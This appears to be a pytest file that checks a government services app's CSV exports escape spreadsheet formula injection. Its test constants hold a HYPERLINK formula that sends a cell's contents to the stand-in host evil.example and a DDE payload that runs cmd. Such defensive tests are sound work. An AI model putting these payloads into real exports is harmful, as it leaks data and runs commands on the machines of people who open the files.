"""CSV injection, tried by an applicant and an official: text they type that a spreadsheet
program would run as a formula reaches the officials' CSV exports as text (a leading ``'``), on
every CSV answer of the API and the pages, while numbers stay numbers."""

from __future__ import annotations

import csv
import io
import uuid
from dataclasses import dataclass

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlalchemy import Engine

from tests.applications.factories import complete_draft, form_values
from tests.applications.test_roles import page_client
from tests.conftest import PASSWORD, sign_in
from tests.fixtures.principals import OPERATOR
from tongban.applications import service
from tongban.applications.states import Action
from tongban.catalog import service as catalog_service
from tongban.db.session import unit_of_work
from tongban.identity import service as identity_service
from tongban.identity.models import AccountKind
from tongban.kit.clock import local_today
from tongban.kit.csvfile import FORMULA_STARTS

ITEM = "SAMR-0001"
# What the attacker types: a link that sends the neighbouring cell away when clicked.
BUSINESS_NAME = '=HYPERLINK("http://evil.example/?"&D2,"Open")'
# An official's reason for a return, reaching the analytics figures.
REASON = "@SUM(1+1)*cmd|' /C calc'!A0"


@dataclass(frozen=True)
class Filed:
    number: str
    api: dict[str, str]  # the market regulator's official, at the API
    pages: TestClient  # the same official, signed in at the pages


@pytest.fixture(scope="module")
def filed(engine: Engine, app: FastAPI) -> Filed:
    """A business registration whose business name is a formula, returned for correction with a
    reason that is one too."""
    with unit_of_work(engine) as session:
        applicant = identity_service.create_account(
            session,
            OPERATOR,
            username=f"csv_{uuid.uuid4().hex[:10]}",
            password=PASSWORD,
            display_name="测试",
            kind=AccountKind.APPLICANT,
        )
        item = catalog_service.get_item(session, OPERATOR, ITEM)
        values = form_values(service.field_specs(item)) | {"business_name": BUSINESS_NAME}
        number = complete_draft(session, applicant, ITEM)
        service.update_form(session, applicant, number, values)
        service.act(session, applicant, number, Action.SUBMIT)
    client = TestClient(app)
    officer = sign_in(client, "samr_officer")
    returned = client.post(
        f"/api/v1/applications/{number}/actions",
        headers=officer,
        json={"action": "return", "reason": REASON},
    )
    assert returned.status_code == 200, returned.text
    return Filed(number, officer, page_client(app, "samr_officer"))


def table(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def formulas(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


class TestTheCaseExports:
    def test_the_api_export_writes_the_business_name_as_text(
        self, client: TestClient, filed: Filed
    ) -> None:
        response = client.get("/api/v1/cases.csv", params={"item": ITEM}, headers=filed.api)
        assert response.status_code == 200, response.text
        rows = table(response.text)
        mine = dict(zip(rows[0], next(r for r in rows if filed.number in r), strict=True))
        assert mine["business_name"] == "'" + BUSINESS_NAME
        assert formulas(rows) == []

    def test_the_search_page_export_writes_the_business_name_as_text(self, filed: Filed) -> None:
        response = filed.pages.get("/queue/search.csv", params={"item": ITEM})
        assert response.status_code == 200, response.text
        rows = table(response.text)
        assert any("'" + BUSINESS_NAME in row for row in rows)
        assert formulas(rows) == []


class TestTheAnalyticsExports:
    def test_the_api_figure_writes_the_return_reason_as_text(
        self, client: TestClient, filed: Filed
    ) -> None:
        response = client.get(
            "/api/v1/analytics/figures/return_reasons",
            params={"format": "csv", "item": ITEM, "start": local_today().isoformat()},
            headers=filed.api,
        )
        assert response.status_code == 200, response.text
        rows = table(response.text)
        assert ["'" + REASON, "1"] in rows
        assert formulas(rows) == []

    def test_the_page_figure_writes_the_return_reason_as_text(self, filed: Filed) -> None:
        response = filed.pages.get(
            "/analytics/figures/return_reasons.csv",
            params={"item": ITEM, "start": local_today().isoformat()},
        )
        assert response.status_code == 200, response.text
        rows = table(response.text)
        assert ["'" + REASON, "1"] in rows
        assert formulas(rows) == []
